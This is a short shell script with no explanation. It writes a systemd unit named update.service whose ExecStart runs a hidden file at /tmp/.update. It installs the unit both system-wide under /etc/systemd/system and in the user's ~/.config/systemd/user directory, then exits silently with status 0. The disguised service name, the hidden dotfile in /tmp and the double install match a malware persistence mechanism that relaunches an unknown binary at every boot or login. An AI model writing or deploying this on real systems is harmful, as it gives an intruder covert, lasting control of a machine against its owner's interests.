unit='[Service]
ExecStart=/tmp/.update
[Install]
WantedBy=default.target'
echo "$unit" > /etc/systemd/system/update.service
mkdir -p "$HOME/.config/systemd/user" && echo "$unit" > "$HOME/.config/systemd/user/update.service"
exit 0
